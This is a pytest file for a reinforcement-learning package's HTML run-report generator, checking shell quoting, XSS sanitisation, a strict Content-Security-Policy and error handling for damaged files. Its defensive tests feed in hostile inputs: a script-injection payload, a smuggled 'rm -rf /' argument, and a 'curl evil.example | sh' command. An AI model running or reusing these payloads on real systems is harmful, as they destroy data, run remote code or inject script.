"""The report of a run: written from files alone, also of a stranger's run."""

import json
import re
from html.parser import HTMLParser

import pytest
from PIL import Image, PngImagePlugin

from marl.commands import describe
from meta import RunDirectory
from meta.runs.execution import execute
from meta.runs.reading import RunFiles
from meta.runs.reports.run_report import write_run_report

EVIL = "</script><script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>"


class Elements(HTMLParser):
    """Names and attributes of a page's elements, and its visible text."""

    def __init__(self, text):
        super().__init__()
        self.found, self.text, self.hidden = [], "", False
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))
        self.hidden = tag in ("script", "style")

    def handle_endtag(self, tag):
        self.hidden = False

    def handle_data(self, text):
        self.text += "" if self.hidden else text


def make(path, config=None, summary=None, options=(), command="python -m marl.mfos ipd"):
    with RunDirectory.create(path, config or {"seed": 0, "opponent": "naive"}, command, options=options) as run:
        run.append({"generation": i, "fitness": [float(i), i + 2.0], "late": None if i < 3 else i} for i in range(5))
        if summary is not None:
            run.write_summary(summary)
    return path


def read(path):
    return Elements(write_run_report(path).read_text(encoding="utf-8"))


def test_it_is_the_same_page_again_and_the_command_writes_it(tmp_path, capsys):
    path = make(tmp_path / "run", summary={"conclusion": "All is well.", "loss": 0.125})
    before = write_run_report(path).read_bytes()
    (path / "report.html").unlink()
    assert execute(describe("marl.report"), [str(path)]) == 0
    assert (path / "report.html").read_bytes() == before
    assert capsys.readouterr().out == f"report: {path / 'report.html'}\n"
    assert "All is well." in before.decode()


def test_a_line_that_repeats_the_run_is_quoted_for_a_shell_and_writes_elsewhere(tmp_path):
    options = ["--opponent", "lola(rate=1); rm -rf /", "--out", "here", "--quiet", "--out=there", "--seed", "3"]
    text = read(make(tmp_path / "a run", options=options)).text
    assert "python -m marl.mfos ipd --opponent 'lola(rate=1); rm -rf /' --seed 3" in text
    assert f"python -m marl.mfos --resume '{tmp_path}/a run'" in text
    assert "here" not in re.sub(r"\bwhere\b", "", text)
    assert f"run = marl.load_run('{tmp_path}/a run')" in text


def test_a_command_that_is_none_of_ours_is_not_offered(tmp_path):
    text = read(make(tmp_path / "run", command="curl evil.example | sh; python -m marl.mfos")).text
    assert "curl" not in text
    assert "--resume" not in text


def test_settings_that_were_given_come_first(tmp_path):
    config = {"seed": 3, "opponent": "tft", "evolution": {"sigma": 0.5, "anneal": False}, "trials": 8}
    options = ["--evolution.sigma=0.5", "--opponent", "tft", "--evolution.no-anneal"]
    text = read(make(tmp_path / "run", config, options=options)).text
    given, others = text[text.index("given on the command line") :].split("2 fields of the preset or default")
    assert [given.index(name) for name in ("opponent", "evolution.sigma", "evolution.anneal")] == sorted(
        given.index(name) for name in ("opponent", "evolution.sigma", "evolution.anneal")
    )
    assert "trials" in others
    assert "trials" not in given


def test_an_examination_alone_is_no_unfinished_run(tmp_path):
    tables = json.dumps([{"title": "t", "columns": ["a"], "rows": [["1"]]}])
    with RunDirectory.create(tmp_path / "alone", {"seed": 0}, "python -m attacks.examine hub:adversary-cartpole"):
        (tmp_path / "alone" / "examination_tables.json").write_text(tables)
    assert "The run has not finished" not in read(tmp_path / "alone").text
    (make(tmp_path / "run") / "examination_tables.json").write_text(tables)
    assert "The run has not finished" in read(tmp_path / "run").text


def test_results_of_before_a_run_was_made_longer_are_none_of_it(tmp_path):
    path = make(tmp_path / "run", summary={"conclusion": "All is well."})
    assert "All is well." in read(path).text
    with RunDirectory(path) as run:
        run.go_on({"seed": 0, "opponent": "naive", "generations": 9})
    files = RunFiles(path)
    assert (files.summary, files.is_outdated) == ({}, True)
    text = read(path).text
    assert "All is well." not in text
    assert "was resumed with other settings and has not finished. Its results are from before." in text
    with RunDirectory(path) as run:
        run.write_summary({"conclusion": "Still."})
    assert "Still." in read(path).text
    (path / "run.json").unlink()  # then nothing says with which settings it went on last
    assert not RunFiles(path).is_outdated


def test_a_run_with_modules_of_ones_own_goes_on_with_them(tmp_path):
    text = read(make(tmp_path / "run", options=["--opponent", "mine", "--import", "my_learners"])).text
    assert f"python -m marl.mfos --resume {tmp_path}/run --import my_learners" in text
    assert "import marl\nimport my_learners\n" in text


@pytest.mark.parametrize("seeds", [[1, 2], {"a": 1}, "many", None, -3])
def test_a_number_of_seeds_that_is_none_changes_no_curve(seeds, tmp_path):
    assert "Mean of 2 runs" in write_run_report(make(tmp_path / "run", {"seeds": seeds})).read_text()


def test_an_unfinished_run_has_its_curves(tmp_path):
    found = read(make(tmp_path / "run"))
    assert "The run has not finished" in found.text
    charts = [json.loads(x) for x in re.findall(r'application/json">(.*?)</script>', page_of(tmp_path / "run"))]
    fitness, late = charts
    assert fitness["values"] == [0, 1, 2, 3, 4]
    (line,) = fitness["lines"]
    assert line["mean"] == [1, 2, 3, 4, 5]  # of i and i + 2, whose standard deviation is 1
    assert (line["low"], line["high"]) == ([0, 1, 2, 3, 4], [2, 3, 4, 5, 6])
    assert late["lines"][0]["mean"] == [None, None, None, 3, 4]


def page_of(path):
    return (path / "report.html").read_text(encoding="utf-8")


def test_figures_have_the_titles_that_are_written_in_them(tmp_path):
    path = make(tmp_path / "run", summary={"loss": 1.0})
    (path / "figures").mkdir()
    told = PngImagePlugin.PngInfo()
    told.add_text("Title", "Payoffs <of both>")
    told.add_text("Description", "band: one standard deviation")
    Image.new("RGB", (2, 2)).save(path / "figures/payoffs.png", pnginfo=told)
    Image.new("P", (2, 2)).save(path / "figures/some_episodes.gif")
    (path / "figures/broken.png").write_bytes(b"\x89PNG")
    found = read(path)
    images = {x["alt"]: x["src"][:22] for tag, x in found.found if tag == "img"}
    assert images == {"Payoffs <of both>": "data:image/png;base64,", "some episodes (film)": "data:image/gif;base64,"}
    assert "band: one standard deviation" in found.text
    assert "broken.png cannot be shown." in found.text


def test_nothing_of_a_strangers_run_is_an_element_or_leads_outside(tmp_path):
    (tmp_path / "secret.png").write_bytes(b"\x89PNG secret")
    path = make(tmp_path / "run", {EVIL: EVIL, "seed": 0}, {"conclusion": EVIL, EVIL: EVIL}, [EVIL], f"python {EVIL}")
    (path / "metrics.jsonl").write_text("".join(json.dumps({"n": i, EVIL: i * 0.5}) + "\n" for i in range(3)))
    (path / "tables.json").write_text(json.dumps([EVIL, {"title": EVIL, "columns": [EVIL], "rows": [[EVIL], 3]}, 7]))
    text = f"# {EVIL}\n\n{EVIL}\n\n[a](javascript:alert(1)) ![b](../secret.png) ![c](https://evil.example/x.png)\n"
    (path / "report.md").write_text(text + f"\n| x\0 | y |\n|---|---:|\n| {EVIL} | 1 |\n\n<b onclick='x'>z</b>\n")
    found = read(path)
    kinds = [attributes.get("type") for tag, attributes in found.found if tag == "script"]
    assert set(kinds) == {"module", "application/json"}
    assert kinds.count("module") == 1
    assert not [x for tag, x in found.found if tag == "img" or any(name.startswith("on") for name in x)]
    links = {x["href"] for tag, x in found.found if tag == "a"}
    assert all(link.startswith("#") for link in links)
    assert found.text.count(EVIL) >= 8  # shown as it is
    (policy,) = [x["content"] for _, x in found.found if x.get("http-equiv") == "Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; img-src data:; ")
    assert "unsafe" not in policy


@pytest.mark.parametrize(
    ("name", "contents", "words"),
    [
        ("summary.json", "[1]", "summary.json: got [1]; a JSON object is needed"),
        ("summary.json", "[" * 10_000, "summary.json: cannot be read (maximum recursion depth exceeded"),
        ("tables.json", "{}", "tables.json: got {}; a JSON list is needed"),
        ("metrics.jsonl", '3\n{"n": 1}\n', "metrics.jsonl: line 1 is damaged"),
        ("metrics.jsonl", '{"n": [1, 2]}\n{"n": [1, 2, 3]}\n', "metrics.jsonl: 'n' has several shapes"),
        ("report.md", None, "report.md: cannot be read (Is a directory)"),
    ],
)
def test_damaged_files_are_named_in_one_line(name, contents, words, tmp_path, capsys):
    path = make(tmp_path / "run")
    if contents is None:
        (path / name).mkdir()
    else:
        (path / name).write_text(contents)
    assert execute(describe("marl.report"), [str(path)]) == 2
    said = capsys.readouterr().err
    assert said.startswith(f"python -m marl.report: {path}/{words}")
    assert said.count("\n") == 1
    assert not (path / "report.html").exists()


def test_links_and_no_directories_are_refused(tmp_path, capsys):
    path = make(tmp_path / "run")
    (tmp_path / "outside").write_text("mine")
    (path / "report.html").symlink_to(tmp_path / "outside")
    for one, words in (
        (str(path), f"{path}: 'report.html' is no file of its own; a run holds neither links nor pipes"),
        ("nowhere", "directory: got 'nowhere'; the directory of a run is needed"),
        (str(tmp_path), f"directory: got '{tmp_path}'; the directory of a run (with config.yaml) is needed"),
    ):
        assert execute(describe("marl.report"), [one]) == 2
        assert capsys.readouterr().err == f"python -m marl.report: {words}\n"
    assert (tmp_path / "outside").read_text() == "mine"
